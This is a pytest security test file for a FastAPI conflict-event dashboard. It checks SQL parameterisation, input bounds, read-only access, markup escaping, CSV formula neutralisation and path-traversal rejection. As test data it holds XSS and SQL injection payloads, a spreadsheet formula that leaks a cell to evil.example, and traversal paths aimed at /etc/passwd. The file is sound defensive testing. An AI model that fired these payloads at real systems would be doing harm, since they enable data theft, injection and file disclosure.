"""Security review of the API and dashboard, as tests: parameterised SQL only, bounded
page sizes and query lengths, a read-only API, untrusted text never served as markup,
and no file path taken from a request.
"""
from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytest.importorskip("fastapi", reason="the serve extra is not installed: pip install 'marsad[serve]'")
pytest.importorskip("httpx", reason="the serve extra is not installed: pip install 'marsad[serve]'")

from fastapi.testclient import TestClient  # noqa: E402

from marsad.model import Document, Event, Evidence, Span  # noqa: E402

XSS = '<script>window.__pwned=1</script><img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"اضغط")'
INJECTIONS = ["' OR '1'='1", "'; DROP TABLE events; --", '" OR 1=1 --', "%", "_", "\\", "%' --",
              "1) UNION SELECT sql, 1, 1 FROM sqlite_master --", "\x00", "' || (SELECT text FROM documents) || '"]


def _hostile_document() -> Document:
    text = ("انفجرت عبوة ناسفة في حي الوعر بمدينة حمص مساء الجمعة " + XSS +
            " وأدى الانفجار إلى إصابة طفلين.")
    d = Document(text=text, url="javascript:alert(1)", title="عنوان " + XSS, source=FORMULA,
                 published="2024-04-05", raw="../../etc/passwd")
    d.assign_id()
    start = 0
    end = len(text)
    d.spans = [Span("trigger", 0, 5, text[0:5], {"x": XSS}, "r1")]
    ev = Event(event_type="Explosions/Remote violence", sub_event_type="Remote explosive/landmine/IED",
               event_date="2024-04-05", actor1=FORMULA, actor2="-1+1", location="حمص " + XSS,
               notes=XSS, country="Syria", admin1="Homs", latitude=34.73, longitude=36.72,
               evidence=[Evidence(d.doc_id, start, end, text[start:end])], doc_ids=[d.doc_id])
    ev.assign_id()
    d.events = [ev]
    return d


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    from marsad.serve.app import create_app
    from marsad.store import Store

    db = tmp_path_factory.mktemp("sec") / "sec.db"
    s = Store(db)
    doc = _hostile_document()
    s.write_documents([doc], "r")
    s.close()
    digest = hashlib.sha256(db.read_bytes()).hexdigest()
    client = TestClient(create_app(str(db)))
    return client, db, doc, digest


def test_sql_injection_in_every_filter_is_data(served):
    client, _, doc, _ = served
    ev = doc.events[0]
    # what each filter may match, taken literally: substring for actor and q, equality otherwise
    haystack = {"actor": [ev.actor1, ev.actor2], "q": [ev.evidence[0].text]}
    for value in INJECTIONS:
        for param in ("actor", "q", "country", "event_type", "sub_event_type", "admin1", "fields", "sort"):
            r = client.get("/api/events", params={param: value})
            assert r.status_code in (200, 422), (param, value, r.status_code, r.text[:300])
            if r.status_code == 200 and param not in ("fields", "sort"):
                expected = int(any(value in (h or "") for h in haystack.get(param, [])))
                assert r.json()["total"] == expected, (param, value)
        r = client.get("/api/stats", params={"q": value, "actor": value})
        assert r.status_code in (200, 422)
    # LIKE wildcards are literal: '%' matches no actor (none contains a percent sign)
    assert client.get("/api/events", params={"actor": "%"}).json()["total"] == 0
    assert client.get("/api/events", params={"actor": "HYPERLINK"}).json()["total"] == 1
    # the schema survived every attempt
    assert client.get("/api/events").json()["total"] == 1


@settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(params=st.dictionaries(
    st.sampled_from(["actor", "q", "country", "event_type", "admin1", "bbox", "date_from", "date_to", "page",
                     "page_size", "sort", "order", "format", "fields", "min_sources", "top"]),
    st.text(max_size=60) | st.integers(-10**20, 10**20).map(str) | st.sampled_from(INJECTIONS), max_size=6))
def test_any_query_string_gets_an_answer_not_a_server_error(served, params):
    client, _, _, _ = served
    for path in ("/api/events", "/api/stats"):
        r = client.get(path, params=params)
        assert r.status_code in (200, 422), (path, params, r.status_code, r.text[:300])


def test_page_sizes_and_query_lengths_are_bounded(served):
    from marsad.serve.queries import MAX_PAGE_SIZE, MAX_TEXT_LEN

    client, _, _, _ = served
    assert client.get("/api/events", params={"page_size": MAX_PAGE_SIZE}).status_code == 200
    assert client.get("/api/events", params={"page_size": MAX_PAGE_SIZE + 1}).status_code == 422
    assert client.get("/api/events", params={"page_size": 0}).status_code == 422
    assert client.get("/api/events", params={"page": 10**7}).status_code == 422
    for p in ("q", "actor", "country"):
        assert client.get("/api/events", params={p: "ق" * MAX_TEXT_LEN}).status_code == 200
        assert client.get("/api/events", params={p: "ق" * (MAX_TEXT_LEN + 1)}).status_code == 422
    assert client.get("/api/events", params=[("event_type", "x")] * 11).status_code == 422
    assert client.get("/api/events", params={"fields": "a," * 600}).status_code == 422
    assert client.get("/api/stats", params={"top": 101}).status_code == 422
    assert client.get("/api/events/" + "e" * 65).status_code == 404
    assert client.get("/api/documents/" + "d" * 65).status_code == 404


def test_api_is_read_only(served):
    client, db, doc, digest = served
    uid = doc.events[0].event_uid
    for path in ("/api/events", f"/api/events/{uid}", f"/api/documents/{doc.doc_id}", "/api/stats", "/api/meta", "/"):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            r = client.request(method, path, json={"event_type": "x"})
            assert r.status_code == 405, (method, path, r.status_code)
    for path in ("/api/events", f"/api/events/{uid}", f"/api/documents/{doc.doc_id}", "/api/stats"):
        assert client.get(path).status_code == 200
    # the server's connection is read-only at the SQLite level too
    from marsad.serve.queries import Reader
    import sqlite3

    with pytest.raises(sqlite3.OperationalError):
        Reader(db).conn().execute("DELETE FROM events")
    assert hashlib.sha256(Path(db).read_bytes()).hexdigest() == digest


def test_untrusted_text_is_never_served_as_markup(served):
    client, _, doc, _ = served
    uid = doc.events[0].event_uid
    for path in ("/api/events", f"/api/events/{uid}", f"/api/documents/{doc.doc_id}", "/api/stats",
                 "/api/events?format=geojson", "/api/meta"):
        r = client.get(path)
        assert r.status_code == 200
        ctype = r.headers["content-type"]
        assert "html" not in ctype, (path, ctype)
        assert r.headers.get("x-content-type-options") == "nosniff"
        if "json" in ctype:
            json.loads(r.text)  # the payload travels as a JSON string, intact, for the page to set as text
    ev = client.get(f"/api/events/{uid}").json()
    assert XSS in ev["evidence"][0]["text"] and XSS in ev["notes"]
    # the dashboard page itself holds no data and forbids inline scripts
    page = client.get("/")
    assert XSS not in page.text and "window.__pwned" not in page.text
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    # the dashboard script never turns data into markup (text nodes and textContent only)
    js = client.get("/static/app.js").text
    assert not re.search(r"\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function",
                         js)
    # error messages echo input inside JSON, never as HTML
    r = client.get("/api/events/" + "<script>x</script>")
    assert r.status_code == 404 and "html" not in r.headers["content-type"]


def test_csv_cells_cannot_become_formulas(served):
    client, _, _, _ = served
    import csv
    import io

    r = client.get("/api/events", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and rows[0]["actor1"].startswith("'=")
    for row in rows:
        for v in row.values():
            assert not (v[:1] in "=+@\t\r" and v), v


@pytest.mark.parametrize("path", [
    "/assets/leaflet/../../../../etc/passwd", "/assets/leaflet/..%2f..%2f..%2fetc%2fpasswd",
    "/assets/..%2f..%2f/pyproject.toml", "/assets/leaflet/%2e%2e/%2e%2e/pyproject.toml",
    "/assets/leaflet//etc/passwd", "/assets/leaflet/dist/leaflet.js/../../package.json",
    "/static/..%2fapp.py", "/static/../app.py", "/static/%2e%2e%2fqueries.py", "/static/app.js%00.py",
    "/assets-admin1.geojson/../../etc/passwd", "/api/documents/..%2f..%2fetc%2fpasswd",
    "/api/events/..%2F..%2Fetc%2Fpasswd", "/../../etc/passwd", "/static/index.html",
])
def test_no_file_path_from_a_request_is_opened(served, path):
    client, _, _, _ = served
    r = client.get(path)
    assert r.status_code == 404, (path, r.status_code, r.text[:200])
    assert "root:" not in r.text and "[project]" not in r.text and "def create_app" not in r.text


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(pkg=st.text(max_size=30), name=st.text(max_size=60))
def test_asset_route_serves_only_its_whitelist(served, pkg, name, tmp_path_factory):
    from urllib.parse import quote

    from marsad.serve.app import ASSET_FILES

    client, _, _, _ = served
    r = client.get(f"/assets/{quote(pkg, safe='')}/{quote(name, safe='/')}")
    if ASSET_FILES.get(pkg, {}).get(name) is None:
        assert r.status_code in (404, 405, 307), (pkg, name, r.status_code)
